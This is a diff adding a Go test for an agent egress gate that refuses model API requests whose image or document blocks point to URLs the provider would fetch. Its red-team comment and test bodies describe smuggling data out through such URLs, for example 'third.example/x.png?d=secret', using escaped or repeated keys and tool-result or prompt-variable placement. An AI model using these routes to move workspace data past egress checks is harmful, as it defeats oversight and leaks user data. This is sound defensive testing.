@@ -1,0 +1,98 @@
+package gate
+
+import (
+	"net/http"
+	"strings"
+	"testing"
+)
+
+// TestProviderFetchRefused (red team 2026-12-03): a content block whose
+// source is a URL makes the provider itself fetch that URL (Anthropic
+// image and document blocks with a "url" source; OpenAI input_image
+// image_url and input_file file_url that are not data: URLs), wherever
+// the block sits — a message, a tool result, a prompt variable. The URL
+// is whatever the agent wrote, workspace content in its query included,
+// and the party it names was named by no egress decision: refused
+// request.provider_fetch. Inline content (base64, data: URLs, file ids)
+// stays admitted.
+func TestProviderFetchRefused(t *testing.T) {
+	const ant = `{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":%s}]}`
+	const oai = `{"model":"gpt-5.1","max_output_tokens":10,"input":[{"role":"user","content":%s}]}`
+	fill := func(tmpl, v string) string { return strings.Replace(tmpl, "%s", v, 1) }
+	tests := []struct {
+		name string
+		p    Provider
+		body string
+		want string // "" = admitted
+	}{
+		{"anthropic base64 image", Anthropic, fill(ant, `[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}},{"type":"text","text":"hi"}]`), ""},
+		{"anthropic text document", Anthropic, fill(ant, `[{"type":"document","source":{"type":"text","media_type":"text/plain","data":"x"}}]`), ""},
+		{"anthropic tool input mentioning url", Anthropic, `{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"WebFetch","input":{"url":"https://example.com","type":"url"}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":"ok"}]}]}`, ""},
+		{"anthropic image url", Anthropic, fill(ant, `[{"type":"image","source":{"type":"url","url":"https://third.example/x.png?d=secret"}}]`), ReasonProviderFetch},
+		{"anthropic document url", Anthropic, fill(ant, `[{"type":"document","source":{"type":"url","url":"https://third.example/x.pdf?d=secret"}}]`), ReasonProviderFetch},
+		{"anthropic image url in tool result", Anthropic, `{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"Read","input":{}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":[{"type":"image","source":{"type":"url","url":"https://third.example/x.png"}}]}]}]}`, ReasonProviderFetch},
+		{"anthropic url source escaped", Anthropic, fill(ant, `[{"type":"image","source":{"\u0074ype":"\u0075rl","url":"https://third.example/x.png"}}]`), ReasonProviderFetch},
+		{"anthropic url source repeated type", Anthropic, fill(ant, `[{"type":"image","source":{"type":"base64","type":"url","url":"https://third.example/x.png"}}]`), ReasonProviderFetch},
+		{"anthropic url document in system", Anthropic, `{"model":"claude-sonnet-4-5","max_tokens":10,"system":[{"type":"document","source":{"type":"url","url":"https://third.example/x.pdf"}}],"messages":[{"role":"user","content":"hi"}]}`, ReasonProviderFetch},
+		{"anthropic count_tokens image url", Anthropic, "count_tokens:" + fill(ant, `[{"type":"image","source":{"type":"url","url":"https://third.example/x.png"}}]`), ReasonProviderFetch},
+		{"openai data image", OpenAI, fill(oai, `[{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgo=","detail":"auto"},{"type":"input_text","text":"hi"}]`), ""},
+		{"openai file id", OpenAI, fill(oai, `[{"type":"input_file","file_id":"file-1"},{"type":"input_image","file_id":"file-2","image_url":null}]`), ""},
+		{"openai function schema naming image_url", OpenAI, `{"model":"gpt-5.1","max_output_tokens":10,"tools":[{"type":"function","name":"f","parameters":{"type":"object","properties":{"image_url":{"type":"string"},"file_url":{"type":"string"}}}}],"input":"hi"}`, ""},
+		{"openai image url", OpenAI, fill(oai, `[{"type":"input_image","image_url":"https://third.example/x.png?d=secret"}]`), ReasonProviderFetch},
+		{"openai file url", OpenAI, fill(oai, `[{"type":"input_file","file_url":"https://third.example/x.pdf?d=secret"}]`), ReasonProviderFetch},
+		{"openai image url in function output", OpenAI, `{"model":"gpt-5.1","max_output_tokens":10,"input":[{"type":"function_call_output","call_id":"c1","output":[{"type":"input_image","image_url":"https://third.example/x.png"}]}]}`, ReasonProviderFetch},
+		{"openai image url in prompt variable", OpenAI, `{"model":"gpt-5.1","max_output_tokens":10,"prompt":{"id":"pmpt_1","variables":{"v":{"type":"input_image","image_url":"https://third.example/x.png"}}},"input":"hi"}`, ReasonProviderFetch},
+		{"openai image url object", OpenAI, fill(oai, `[{"type":"input_image","image_url":{"url":"https://third.example/x.png"}}]`), ReasonProviderFetch},
+		{"openai image url escaped key", OpenAI, fill(oai, `[{"type":"input_image","\u0069mage_url":"https://third.example/x.png"}]`), ReasonProviderFetch},
+		{"openai image url repeated", OpenAI, fill(oai, `[{"type":"input_image","image_url":"https://third.example/x.png","image_url":"data:image/png;base64,AA=="}]`), ReasonProviderFetch},
+		{"openai compact image url", OpenAI, "compact:" + fill(oai, `[{"type":"input_image","image_url":"https://third.example/x.png"}]`), ReasonProviderFetch},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			f := newFixture(t, nil)
+			_, phantom := f.grant(spec(tt.p))
+			got, status := sendBody(t, f, tt.p, phantom, tt.body)
+			if got != tt.want {
+				t.Errorf("reason %q (status %d), want %q", got, status, tt.want)
+			}
+			seen := len(f.anth.Requests()) + len(f.oai.Requests())
+			if want := map[bool]int{true: 1, false: 0}[tt.want == ""]; seen != want {
+				t.Errorf("doubles saw %d requests, want %d", seen, want)
+			}
+		})
+	}
+}
+
+// sendBody posts body as a model request of provider p (to
+// count_tokens or responses/compact when it starts with "count_tokens:"
+// or "compact:") and returns the gate's reason header and status.
+func sendBody(t *testing.T, f *fixture, p Provider, phantom, body string) (string, int) {
+	t.Helper()
+	path := "/v1/messages"
+	if p == OpenAI {
+		path = "/v1/responses"
+	}
+	if b, ok := strings.CutPrefix(body, "count_tokens:"); ok {
+		path, body = "/v1/messages/count_tokens", b
+	}
+	if b, ok := strings.CutPrefix(body, "compact:"); ok {
+		path, body = "/v1/responses/compact", b
+	}
+	req, err := http.NewRequest("POST", f.srv.URL+path, strings.NewReader(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	req.Header.Set("Content-Type", "application/json")
+	if p == OpenAI {
+		req.Header.Set("Authorization", "Bearer "+phantom)
+	} else {
+		req.Header.Set("X-Api-Key", phantom)
+		req.Header.Set("Anthropic-Version", "2023-06-01")
+	}
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	readAll(t, resp)
+	return resp.Header.Get("X-Coagent8-Gate-Reason"), resp.StatusCode
+}
